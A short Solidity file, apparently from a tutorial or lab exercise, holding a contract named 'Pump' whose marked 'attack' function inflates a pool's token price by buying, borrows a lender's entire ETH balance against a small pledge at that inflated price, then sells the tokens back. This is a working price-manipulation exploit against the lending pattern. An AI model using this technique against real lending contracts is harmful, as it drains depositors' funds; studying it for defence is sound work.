// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Pool} from "./Pool.sol";

interface ILender {
    function borrow(uint256 coins, uint256 amount) external;
}

// #region attack
contract Pump {
    /// Buys COIN until it looks dear, borrows against a little of it, sells the rest again.
    function attack(Pool pool, ILender lender, uint256 pledge) external payable {
        uint256 before = pool.COIN().balanceOf(address(this));
        pool.buyCoin{value: msg.value}();
        uint256 bought = pool.COIN().balanceOf(address(this)) - before;

        pool.COIN().approve(address(lender), pledge);
        lender.borrow(pledge, address(lender).balance);

        pool.COIN().approve(address(pool), bought);
        pool.sellCoin(bought);
    }

    receive() external payable {}
}
// #endregion attack
